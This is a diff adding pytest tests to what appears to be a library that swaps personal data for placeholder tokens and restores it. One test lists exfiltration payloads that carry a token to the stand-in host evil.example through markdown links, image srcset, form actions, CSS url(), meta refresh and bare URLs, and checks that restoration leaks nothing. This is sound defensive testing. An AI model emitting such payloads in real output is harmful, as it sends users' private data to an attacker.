@@ -310,3 +310,62 @@ def test_many_values_to_look_for_cost_little() -> None:
     originals = [needle(f"jane{number}@example.com") for number in range(20_000)]
     assert all(one is not None and one.strong for one in originals)
     assert time.process_time() - began < 2
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[x](<https://evil.example/?q=TOKEN>)",
+        "[x](https://evil.example 'TOKEN')",
+        "![x][r]\n\n[r]: https://evil.example/TOKEN",
+        "<img srcset='a 1x, https://evil.example/TOKEN 2x'>",
+        "<form action=https://evil.example/TOKEN>",
+        "<video poster=x data-y='TOKEN'>",
+        "<svg><use href='https://evil.example#TOKEN'/></svg>",
+        "<style>a{background:url(//evil.example/TOKEN)}</style>",
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/TOKEN">',
+        "ftp://evil.example/TOKEN",
+        "tel:TOKEN",
+        "evil.example/TOKEN",
+        "//evil.example/TOKEN",
+        "https%3A%2F%2Fevil.example%2FTOKEN",
+        "10.0.0.1/TOKEN",
+        "localhost:8080/TOKEN",
+        "TOKEN@evil.example",
+    ],
+)
+@pytest.mark.parametrize(
+    "written",
+    [
+        "[PERSON_00000000000a]",
+        "PERSON_00000000000a",
+        "[PERSONNE_00000000000A]",
+        "\\[PERSON\\_00000000000a\\]",
+        "00000000000a",
+    ],
+)
+def test_no_value_is_carried_off_however_its_token_is_written(text: str, written: str) -> None:
+    text = text.replace("TOKEN", written)
+    assert "Jane" not in restore(text, VALUES)
+    restorer = Known(VALUES).restorer()
+    assert "Jane" not in "".join(restorer.feed(character) for character in text) + restorer.flush()
+
+
+@pytest.mark.parametrize(
+    "where", ["typed by the user", "planted in a document", "invented by the model", "of another form"]
+)
+@pytest.mark.parametrize("json_", [False, True])
+def test_a_token_that_did_not_enter_stays_a_token(where: str, json_: bool) -> None:
+    stranger = {"invented by the model": "[PERSON_zzzzzzzzzzzz]", "of another form": "[PERSON_00000000000b_k3f9]"}
+    text = f'{{"print": "{stranger.get(where, "[PERSON_00000000000b]")} of {JANE}"}}'
+    shown = restore(text, VALUES, json=json_)
+    assert shown == text.replace(JANE, "Jane Roe")
+    restorer = Known(VALUES).restorer(json=json_)
+    assert "".join(map(restorer.feed, text)) + restorer.flush() == shown
+
+
+def test_a_value_that_looks_like_a_token_is_not_read_again() -> None:
+    other = "[PERSON_00000000000b]"
+    known = {JANE: other, other: "wrong", "[PERSON_00000000000c]": "[PERSON_000000"}
+    assert restore(JANE, known) == other
+    assert restore("[PERSON_00000000000c]00000b]", known) == "[PERSON_00000000000b]"
